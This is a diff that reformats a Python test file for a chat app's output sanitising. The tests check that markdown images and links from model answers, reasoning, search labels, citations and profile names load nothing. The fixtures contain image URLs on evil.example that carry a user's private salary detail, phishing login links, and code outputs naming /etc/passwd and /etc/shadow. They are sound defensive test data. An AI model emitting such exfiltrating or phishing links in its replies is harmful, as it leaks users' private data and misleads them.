@@ -37,17 +37,20 @@ def test_an_image_in_an_answer_is_a_link_showing_its_host(app, configured: FakeO
     assert not at.get("imgs") and not answer.get("image")
     assert answer.markdown[0].value == (
         "Here you go. [🖼 chart (evil\\.example)](https://evil.example/pixel.png?q=Ann+told+me+her+salary) "
-        "And [your bank (evil\\.example)](https://evil.example/login).")
+        "And [your bank (evil\\.example)](https://evil.example/login)."
+    )
     assert user.markdown[0].value.startswith("Show me this: [🖼 me (evil\\.example)](")
 
 
 def test_thinking_tool_labels_and_citations_load_nothing_either(app, configured: FakeOpenAI) -> None:
     text = "See the source."
-    configured.queue(Reply(
-        Reasoning((f"Planting ![r]({LEAK}) here.",)),
-        WebSearch(f"salary ![q]({LEAK})", sources=(LEAK,)),
-        Message(text, annotations=(url_citation("https://evil.example/phish", "https://bank.example", 0, 3),)),
-    ))
+    configured.queue(
+        Reply(
+            Reasoning((f"Planting ![r]({LEAK}) here.",)),
+            WebSearch(f"salary ![q]({LEAK})", sources=(LEAK,)),
+            Message(text, annotations=(url_citation("https://evil.example/phish", "https://bank.example", 0, 3),)),
+        )
+    )
     at = app()
     at.session_state["settings"] = {"tools": ToolSettings(web_search=True, reasoning_summary="concise")}
     at = send_message(at.run(), "Look it up")
@@ -71,15 +74,16 @@ def test_a_profile_name_in_the_url_is_shown_literally(app, configured: FakeOpenA
     at = app(profile=name).run()
     assert not at.exception
     warning = at.warning[0].value
-    assert warning == ("There is no profile named '\\!\\[x\\](https://evil.example/pixel.png?q=Ann+told+me+her+salary)"
-                       " \\*\\*\\[call us\\](https://evil.example/)\\*\\*' for you.")
+    assert warning == (
+        "There is no profile named '\\!\\[x\\](https://evil.example/pixel.png?q=Ann+told+me+her+salary)"
+        " \\*\\*\\[call us\\](https://evil.example/)\\*\\*' for you."
+    )
     tokens = [t.type for token in PARSER.parse(warning) for t in token.children or []]
     assert "image" not in tokens and "link_open" not in tokens and "strong_open" not in tokens
 
 
 def test_a_code_output_naming_a_server_path_is_not_opened(app, configured: FakeOpenAI) -> None:
-    configured.queue(Reply(CodeInterpreter("plot()", files=("/etc/passwd", "file:///etc/shadow")),
-                           Message("Done.")))
+    configured.queue(Reply(CodeInterpreter("plot()", files=("/etc/passwd", "file:///etc/shadow")), Message("Done.")))
     at = app()
     at.session_state["settings"] = {"tools": ToolSettings(code_interpreter=True)}
     at = send_message(at.run(), "Plot it")
